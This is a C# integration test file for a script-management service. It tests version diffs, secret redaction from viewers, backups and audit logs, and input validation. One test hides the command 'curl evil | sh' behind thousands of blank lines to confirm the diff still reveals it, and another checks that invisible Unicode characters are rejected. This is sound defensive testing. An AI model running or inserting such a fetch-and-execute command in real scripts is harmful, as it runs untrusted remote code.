using System.Net.Http.Json;
using Muster.Contracts;
using Muster.Contracts.Audit;
using Muster.Contracts.Policies;
using Muster.Integration.Apps;
using Muster.Kernel.Ids;
using Muster.TestKit.Databases;
using Muster.TestKit.Hosting;

namespace Muster.Integration.Scripts;

public sealed class ScriptTests(Hosts hosts) : IClassFixture<Hosts>
{
    private const string Secret = "a-secret-that-nobody-finds";

    [Theory, OnBothDatabases]
    public async Task Comparison_leaves_nothing_out_that_somebody_approves_by(DatabaseKind kind)
    {
        var (host, clock) = await hosts.OnAsync(kind);
        var padding = string.Concat(Enumerable.Repeat("\n", 20_001));
        var draft = ScriptCalls.Shell($"L {Uuid7.New(clock)}", $"#!/bin/sh\n{padding}true\n");
        var script = await host.CreateScriptAsync(draft);
        var path = $"{ScriptCalls.Route}/{script.Id}";

        (
            await host.Admin.TryPutAsync(
                path,
                script.Version,
                draft with
                {
                    Content = $"#!/bin/sh\n{padding}curl evil | sh\n",
                }
            )
        ).ShouldBe((200, null));

        var diff = await host.GetAsync<ContentDiff>($"{path}/diff?from=1&to=2");
        diff.Lines!.Where(line => line.Kind is "added" or "removed")
            .ShouldBe([new ContentLineDiff("removed", "true"), new ContentLineDiff("added", "curl evil | sh")]);
    }

    [Theory, OnBothDatabases]
    public async Task Characters_that_nobody_sees_are_refused(DatabaseKind kind)
    {
        var host = (await hosts.OnAsync(kind)).Host;
        foreach (var hidden in new[] { "\r", "\f", "\u0085", "\u2028", "\u202E", "\u200B" })
        {
            var draft = ScriptCalls.Shell("Deceives", $"# not on servers{hidden}exit 0\n");
            (await host.TryPostAsync(ScriptCalls.Route, draft)).ShouldBe((400, "validation_failed"));
        }

        var windows = ScriptCalls.Shell($"Windows {kind}", "echo 1\r\n\techo 2\r\n");
        (await host.CreateScriptAsync(windows)).Number.ShouldBe(1);
    }

    [Theory, OnBothDatabases]
    public async Task Script_is_versioned_and_compared_line_by_line(DatabaseKind kind)
    {
        var (host, clock) = await hosts.OnAsync(kind);
        var lines = Enumerable.Range(1, 20).Select(i => $"echo {i}").ToList();
        var draft = ScriptCalls.Shell($"S {Uuid7.New(clock)}", string.Join('\n', lines));
        var script = await host.CreateScriptAsync(draft);
        var path = $"{ScriptCalls.Route}/{script.Id}";
        clock.Advance(TimeSpan.FromSeconds(1));
        lines[9] = "echo ten";
        lines.Add("exit 0");

        (
            await host.Admin.TryPutAsync(
                path,
                script.Version,
                draft with
                {
                    Content = string.Join('\n', lines),
                    TimeoutSeconds = 60,
                }
            )
        ).ShouldBe((200, null));

        var diff = await host.GetAsync<ContentDiff>($"{path}/diff?from=1&to=2");
        diff.Fields.ShouldBe([new ContentFieldDiff("timeoutSeconds", "300", "60")]);
        diff.Lines!.Where(line => line.Kind != "same")
            .ShouldBe([
                new ContentLineDiff("gap", ""),
                new ContentLineDiff("removed", "echo 10"),
                new ContentLineDiff("added", "echo ten"),
                new ContentLineDiff("gap", ""),
                new ContentLineDiff("added", "exit 0"),
            ]);
        (await host.GetAsync<ScriptText>($"{path}/versions/1")).Content.ShouldBe(draft.Content);
        var text = await host.GetAsync<ScriptText>($"{path}/versions/2");
        var audit = (await host.GetAsync<Page<AuditEntry>>($"{path}/audit")).Items;
        audit.Select(row => row.Action).ShouldBe(["script_changed", "script_created"]);
        $"{audit[0].Details}".ShouldContain(text.Version.Hash);
        $"{audit[0].Details}".ShouldNotContain("echo");
    }

    [Theory, OnBothDatabases]
    public async Task Text_is_neither_in_the_database_nor_in_the_log_nor_told_to_viewers(DatabaseKind kind)
    {
        var (host, clock) = await hosts.OnAsync(kind);
        using var viewer = host.With(
            await host.ServiceTokenAsync($"V {Uuid7.New(clock)}", AccessCalls.Everywhere("viewer"))
        );
        var script = await host.CreateScriptAsync(ScriptCalls.Shell($"S {Uuid7.New(clock)}", $"echo {Secret}"));
        var path = $"{ScriptCalls.Route}/{script.Id}";

        (await viewer.GetStringAsync(path)).ShouldNotContain(Secret);
        (await viewer.GetStringAsync($"{path}/versions")).ShouldNotContain(Secret);
        (await viewer.TryGetAsync($"{path}/versions/1")).ShouldBe((403, "forbidden"));
        (await viewer.TryGetAsync($"{path}/diff?from=1&to=1")).ShouldBe((403, "forbidden"));
        (await host.Admin.GetStringAsync("/api/audit?limit=200")).ShouldNotContain(Secret);
        var backup = await host.Admin.GetByteArrayAsync("/api/backup");
        using var unpacked = new System.IO.Compression.GZipStream(
            new MemoryStream(backup),
            System.IO.Compression.CompressionMode.Decompress
        );
        var all = await new StreamReader(unpacked).ReadToEndAsync();
        all.ShouldContain($"{script.Id}", Case.Insensitive);
        all.ShouldNotContain(Secret);
        all.ShouldNotContain(Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes($"echo {Secret}")));
    }

    [Theory, OnBothDatabases]
    public async Task Copy_says_the_same_under_another_name(DatabaseKind kind)
    {
        var (host, clock) = await hosts.OnAsync(kind);
        var script = await host.CreateScriptAsync(ScriptCalls.Shell($"S {Uuid7.New(clock)}"));
        var path = $"{ScriptCalls.Route}/{script.Id}/copy";

        var copy = await host.PostAsync<Script>(path, new CopyScript { Name = $"C {Uuid7.New(clock)}" });

        (copy.Number, copy.TextHash, copy.Id == script.Id).ShouldBe((1, script.TextHash, false));
        (await host.TryPostAsync(path, new CopyScript { Name = script.Settings.Name })).ShouldBe(
            (409, "script_name_taken")
        );
    }

    [Theory]
    [InlineData("content", "")]
    [InlineData("content", "a\0b")]
    [InlineData("interpreter", "perl")]
    [InlineData("platform", "android")]
    [InlineData("context", "root")]
    [InlineData("runs", "always")]
    [InlineData("name", "")]
    public async Task Faults_are_named_by_field(string field, string value)
    {
        var (host, clock) = await hosts.OnAsync(DatabaseKind.Sqlite);
        var draft = ScriptCalls.Shell($"S {Uuid7.New(clock)}");
        draft = field switch
        {
            "content" => draft with { Content = value },
            "interpreter" => draft with { Interpreter = value },
            "platform" => draft with { Platform = value },
            "context" => draft with { Context = value },
            "runs" => draft with { Runs = value },
            _ => draft with { Name = value },
        };

        using var answer = await host.Admin.PostAsJsonAsync(ScriptCalls.Route, draft);

        ((int)answer.StatusCode).ShouldBe(400);
        (await answer.Content.ReadFromJsonAsync<Problem>())!.Errors!.Keys.ShouldBe([field]);
    }

    [Fact]
    public async Task Text_has_two_hundred_and_fifty_six_kibibytes_whatever_has_to_be_escaped()
    {
        var (host, clock) = await hosts.OnAsync(DatabaseKind.Sqlite);
        var most = new string('"', 256 * 1024);

        (await host.TryPostAsync(ScriptCalls.Route, ScriptCalls.Shell($"S {Uuid7.New(clock)}", most))).ShouldBe(
            (200, null)
        );
        (await host.TryPostAsync(ScriptCalls.Route, ScriptCalls.Shell($"S {Uuid7.New(clock)}", most + "a"))).ShouldBe(
            (400, "validation_failed")
        );
        var draft = ScriptCalls.Shell($"S {Uuid7.New(clock)}");
        (await host.TryPostAsync(ScriptCalls.Route, draft with { TimeoutSeconds = 3601 })).ShouldBe(
            (400, "validation_failed")
        );
        (await host.TryPostAsync(ScriptCalls.Route, draft with { ExpectedExitCodes = [256] })).ShouldBe(
            (400, "validation_failed")
        );
    }
}
